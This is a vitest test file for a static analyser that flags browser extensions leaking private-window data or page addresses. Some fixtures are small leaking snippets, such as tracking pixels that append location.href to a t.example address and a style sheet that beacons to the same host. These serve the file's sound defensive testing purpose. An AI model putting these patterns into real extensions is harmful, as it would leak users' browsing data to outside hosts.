/**
 * Small extensions, each with one leak or a harmless look-alike: every leak is found or refused, every harmless one
 * holds. All take milliseconds: `npm run mutate` runs them for each mutant.
 */
import { readdirSync } from "node:fs";
import { describe, expect, test } from "vitest";
import {
  answerOf,
  answerOfPage,
  answerOfWorker,
  EXPECTED,
  folder,
  keep,
  reportOf,
  reportOn,
  visit,
} from "./extensions.js";

for (const [kind, expected] of Object.entries(EXPECTED))
  describe(kind, () => {
    for (const name of readdirSync(`${folder}/${kind}`))
      test(name, async () => expect(answerOf(await reportOf(`${kind}/${name}`))).toBe(expected));
  });

test("the message names the line of the source and that of the sink", async () => {
  const { properties } = await reportOf("leaking/title.txt");
  expect(properties[0]!.reason).toContain(
    "data that bg.js:2 takes from a private window is stored by bg.js:6",
  );
  const asked = (await reportOf("leaking/all-tabs.txt")).properties[0]!;
  expect(asked.reason).toContain("data that bg.js:3 takes from a private window is stored by bg.js:4");
});

describe("whose `incognito` is asked for", () => {
  for (const [name, script, expected] of [
    ["that of the tab", visit(`if (tab.incognito) return; ${keep}`), "holds"],
    ["of what changed, which has none", visit(`if (change.incognito) return; ${keep}`), "violated"],
    ["of the tab in a variable", visit(`const it = tab; if (it.incognito) return; ${keep}`), "holds"],
    [
      "of the tab that is looked up",
      visit(`const it = await chrome.tabs.get(id); if (it.incognito) return; ${keep}`),
      "holds",
    ],
    [
      "of one of two things",
      visit(`const it = change.url ? tab : change; if (it.incognito) return; ${keep}`),
      "violated",
    ],
    [
      "of the tab by a function",
      visit(`hold(tab);`) + `function hold(tab) { if (tab.incognito) return; ${keep} }`,
      "holds",
    ],
    [
      "of something else by a function",
      visit(`hold(tab); hold({ url: tab.url });`) +
        `function hold(tab) { if (tab.incognito) return; ${keep} }`,
      "violated",
    ],
    [
      "of the active tab, when it is another",
      `chrome.tabs.onActivated.addListener(async (tab) => { if (tab.incognito) return; chrome.storage.local.set({ last: tab.tabId }); });`,
      "violated",
    ],
    [
      "of requests, in Firefox alone",
      `chrome.webRequest.onCompleted.addListener((details) => { if (details.incognito) return; chrome.storage.local.set({ last: details.url }); });`,
      "violated",
    ],
    [
      "of requests in Firefox",
      `browser.webRequest.onCompleted.addListener((details) => { if (details.incognito) return; browser.storage.local.set({ last: details.url }); });`,
      "holds",
    ],
    [
      "of the focus, by a function",
      visit(`if (await hidden()) return; ${keep}`) +
        "const hidden = async () => (await chrome.windows.getLastFocused()).incognito;",
      "violated",
    ],
    [
      "of the focus, in a function that is a listener by its name",
      `async function seen(id, change, tab) { const front = await chrome.windows.getLastFocused(); if (front.incognito) return; ${keep} } chrome.tabs.onUpdated.addListener(seen);`,
      "violated",
    ],
    ["bound from a tab", visit(`const { incognito } = tab; if (incognito) return; ${keep}`), "holds"],
    [
      "bound from something else",
      visit(`const { incognito } = change; if (incognito) return; ${keep}`),
      "violated",
    ],
  ] as const)
    test(name, async () => expect(await answerOfWorker(script)).toBe(expected));
});

describe("addresses and code", () => {
  for (const [name, script, expected] of [
    [
      "a computed property",
      'const image = new Image(); image["s" + "rc"] = "https://t.example/?" + location.href;',
      "violated",
    ],
    ["a key of an object", "const seen = {}; seen[location.href] = 1;", "holds"],
    [
      "properties that are assigned",
      'Object.assign(new Image(), { src: "https://t.example/?" + location.href });',
      "violated",
    ],
    [
      "a constant by its name, behind a condition",
      'const PIXEL = "https://t.example/1"; const image = new Image(); if (document.title) image.src = PIXEL;',
      "violated",
    ],
    ["a constant picture of the extension", 'const image = new Image(); image.src = "pixel.png";', "holds"],
    [
      "parts of an address",
      'const address = new URL("https://t.example"); address.search = document.title; console.log(address.href);',
      "holds",
    ],
    [
      "an element that is made by a bound function",
      'const make = document.createElement.bind(document); make("script");',
      "violated",
    ],
    ["a text with no code", 'document.body.setAttribute("title", "a < b");', "holds"],
  ] as const)
    test(name, async () => expect(await answerOfPage(script)).toBe(expected));
});

describe("what is loaded", () => {
  const leak = `${visit(keep)}`;
  for (const [name, script, files, expected] of [
    ["a package for its effects", 'import "tracker";', {}, "violated"],
    ["a file for its effects", 'import "./x.js";', { "x.js": leak }, "violated"],
    [
      "a file by its address in the extension",
      'import(chrome.runtime.getURL("x.js"));',
      { "x.js": leak },
      "violated",
    ],
    ["a file that does nothing", 'import(chrome.runtime.getURL("x.js"));', { "x.js": "" }, "holds"],
    ["a worker of the extension", 'new Worker("x.js");', { "x.js": "console.log(1);" }, "holds"],
    [
      "a style sheet with an address",
      visit('chrome.scripting.insertCSS({ target: { tabId: id }, files: ["x.css"] });'),
      { "x.css": "a[href*=x] { background: url(https://t.example) }" },
      "webextension/unread",
    ],
    [
      "a style sheet without",
      visit('chrome.scripting.insertCSS({ target: { tabId: id }, files: ["x.css"] });'),
      { "x.css": "a { color: red }" },
      "holds",
    ],
  ] as const)
    test(name, async () => expect(await answerOfWorker(script, files)).toBe(expected));
});

describe("what a manifest names without harm", () => {
  for (const [name, keys] of [
    ["no popup", { action: { default_popup: "" } }],
    ["a page elsewhere", { chrome_url_overrides: { newtab: "https://start.example/" } }],
    ["a file by its name", { web_accessible_resources: [{ resources: ["fonts/LICENSE"], matches: [] }] }],
    ["a page of the extension for links", { protocol_handlers: [{ uriTemplate: "/open.html#%s" }] }],
  ] as const)
    test(name, async () => {
      const manifest = { manifest_version: 3, background: { service_worker: "bg.js" }, ...keys };
      const files = { "bg.js": "console.log(1);", "open.html": "<p>opened</p>" };
      const report = await reportOn({ "manifest.json": JSON.stringify(manifest), ...files });
      expect(answerOf(report)).toBe("holds");
    });
});
